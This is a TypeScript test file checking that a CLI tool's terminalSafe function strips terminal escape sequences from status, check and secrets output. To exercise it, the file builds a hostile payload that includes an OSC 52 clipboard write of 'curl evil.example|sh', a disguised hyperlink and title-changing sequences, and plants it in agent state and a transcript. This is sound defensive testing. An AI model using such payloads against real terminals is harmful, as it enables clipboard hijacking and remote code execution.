import * as assert from 'node:assert/strict';
import { promises as fs } from 'node:fs';
import * as path from 'node:path';
import { terminalSafe } from '../../../src/core/controlChars';
import { claudeProjectSlug } from '../../../src/core/context/discovery';
import { fixturePath, makeTempDir } from '../helpers/fixtures';
import { tempRepos } from '../helpers/gitRepo';
import { handoff, workbenchRepo } from '../helpers/workbenchRepo';

// Built from code points: a window-title change, an OSC 52 clipboard write of `curl evil.example|sh`,
// an OSC 8 hyperlink hiding its target, a colour (CSI), an 8-bit CSI and a bare carriage return.
const ESC = String.fromCharCode(0x1b);
const BEL = String.fromCharCode(0x07);
const TITLE = `${ESC}]0;pwned${BEL}`;
const CLIPBOARD = `${ESC}]52;c;${Buffer.from('curl evil.example|sh').toString('base64')}${BEL}`;
const LINK = `${ESC}]8;;https://evil.example/${ESC}\\here${ESC}]8;;${ESC}\\`;
const RED = `${ESC}[31m`;
const CSI8 = `${String.fromCharCode(0x9b)}2J`;
const HOSTILE = `${TITLE}${CLIPBOARD}${LINK}${RED}${CSI8}`;
/** Anything a terminal acts on: ESC, the C1 block, BEL, a carriage return not ending a line. */
const ACTIVE = /[\u001b\u0007\u0080-\u009f]|\r(?!\n)/;

describe('every command-line output is safe for a terminal', () => {
  const make = tempRepos(workbenchRepo);

  it('escape sequences go whole (payload included); text, newlines and tabs stay', () => {
    assert.equal(terminalSafe(`a${HOSTILE}b\tc\r\nd`), 'ahereb\tc\r\nd');
    assert.equal(terminalSafe(`progress 10%\rprogress 99%`), 'progress 10%progress 99%');
    assert.doesNotMatch(terminalSafe(`${ESC}P1$r${ESC}\\x${String.fromCharCode(0x9d)}0;t${BEL}y`), ACTIVE);
    // A JSON document stays valid: raw controls cannot occur in its strings, U+2028 is left as it is.
    const doc = JSON.stringify({ a: `x${String.fromCharCode(0x2028)}y${String.fromCharCode(0x85)}z` });
    assert.deepEqual(JSON.parse(terminalSafe(doc)), { a: `x${String.fromCharCode(0x2028)}yz` });
  });

  it('status, check and secrets print agent-state and session text without its escape sequences', async () => {
    const r = make();
    // agent_state.json: a branch and a next action carrying the sequences (as JSON escapes, as an agent writes them).
    const state = JSON.parse(await fs.readFile(path.join(r.dir, 'agent_state.json'), 'utf8')) as Record<string, unknown>;
    state['branch'] = `release${HOSTILE}`;
    state['next_action'] = `Handle partial refunds${HOSTILE}`;
    await fs.writeFile(path.join(r.dir, 'agent_state.json'), JSON.stringify(state));
    // A transcript whose command that printed a credential carries them too.
    const config = await makeTempDir('handoff-claude-');
    const dir = path.join(config, 'projects', claudeProjectSlug(r.dir));
    await fs.mkdir(dir, { recursive: true });
    const original = (await fs.readFile(fixturePath('transcripts', 'claude-tasks.jsonl'), 'utf8')).split('__CWD__').join(JSON.stringify(r.dir).slice(1, -1));
    const hostile = original.split('cat .env').join(`cat .env${JSON.stringify(HOSTILE).slice(1, -1)}`);
    assert.notEqual(hostile, original);
    await fs.writeFile(path.join(dir, 'claude-tasks-0000.jsonl'), hostile, { mode: 0o600 });
    const env = { ...process.env, CLAUDE_CONFIG_DIR: config, CODEX_HOME: path.join(config, 'no-codex') };

    const outputs: [string, string][] = [];
    for (const args of [['status'], ['check'], ['secrets'], ['status', '--json'], ['check', '--json'], ['secrets', '--json']]) {
      const out = handoff([...args, '--dir', r.dir], { env });
      assert.ok(out.code === 0 || out.code === 1, `${args.join(' ')}: ${out.stderr}`);
      outputs.push([`${args.join(' ')} stdout`, out.stdout], [`${args.join(' ')} stderr`, out.stderr]);
      if (args.includes('--json')) assert.doesNotThrow(() => JSON.parse(out.stdout), args.join(' '));
    }
    const all = outputs.map(([, t]) => t).join('\n');
    // The session text is printed (so the test is about it), its sequences are not.
    assert.match(all, /release/);
    assert.match(all, /cat \.env/);
    for (const [what, text] of outputs) {
      assert.doesNotMatch(text, ACTIVE, `${what}: ${JSON.stringify(text).slice(0, 2000)}`);
    }
  });
});
